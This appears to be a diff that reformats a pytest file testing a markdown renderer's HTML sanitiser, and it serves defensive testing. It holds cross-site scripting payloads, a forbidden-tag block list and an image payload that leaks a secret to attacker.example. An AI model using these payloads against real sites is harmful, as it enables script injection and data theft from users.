@@ -7,8 +7,25 @@ import pytest
 from playground import rendering
 from playground.rendering import render_markdown
 
-FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "style", "svg", "math",
-                  "base", "meta", "link", "img", "video", "audio", "textarea", "button"}
+FORBIDDEN_TAGS = {
+    "script",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "style",
+    "svg",
+    "math",
+    "base",
+    "meta",
+    "link",
+    "img",
+    "video",
+    "audio",
+    "textarea",
+    "button",
+}
 PAYLOADS = [
     "<img src=x onerror=alert(1)>",
     "<script>alert(1)</script>",
@@ -30,8 +47,15 @@ PAYLOADS = [
     "<img src=https://attacker.example/p.png?q=SECRET>",
 ]
 CONTEXTS = [
-    "{p}", "- {p}", "| a |\n|---|\n| {p} |", "[{p}](https://ok.example)", "> {p}", "# {p}",
-    "```\ncode\n```\n{p}", "`{p}`", "```html\"><script>\n{p}\n```",
+    "{p}",
+    "- {p}",
+    "| a |\n|---|\n| {p} |",
+    "[{p}](https://ok.example)",
+    "> {p}",
+    "# {p}",
+    "```\ncode\n```\n{p}",
+    "`{p}`",
+    '```html"><script>\n{p}\n```',
 ]
 
 
@@ -44,12 +68,15 @@ class Inspector(HTMLParser):
         if tag in FORBIDDEN_TAGS:
             self.problems.append(f"<{tag}>")
         for name, value in attrs:
-            if name.startswith("on") or name.startswith(("hx-", "data-hx")) or name in (
-                    "style", "srcdoc", "formaction"):
+            if (
+                name.startswith("on")
+                or name.startswith(("hx-", "data-hx"))
+                or name in ("style", "srcdoc", "formaction")
+            ):
                 self.problems.append(f"{tag}[{name}]")
-            if name == "href" and value and ":" in value.split("/")[0]:
-                if value.split(":")[0].lower() not in ("http", "https", "mailto"):
-                    self.problems.append(f"href={value}")
+            scheme = value.split(":")[0].lower() if value and ":" in value.split("/")[0] else ""
+            if name == "href" and scheme and scheme not in ("http", "https", "mailto"):
+                self.problems.append(f"href={value}")
         if tag == "a":
             rel = dict(attrs).get("rel", "") or ""
             if "noopener" not in rel or "noreferrer" not in rel:
@@ -82,7 +109,9 @@ def test_code_is_highlighted_and_escaped():
 def test_sanitiser_runs_last_on_the_rendered_html(monkeypatch):
     calls = []
     real_sanitize = rendering.sanitize
-    monkeypatch.setattr(rendering, "sanitize", lambda html: calls.append(html) or real_sanitize(html))
+    monkeypatch.setattr(
+        rendering, "sanitize", lambda html: calls.append(html) or real_sanitize(html)
+    )
     render_markdown("**bold** <b>x</b>")
     assert calls == ["<p><strong>bold</strong> &lt;b&gt;x&lt;/b&gt;</p>\n"]
 
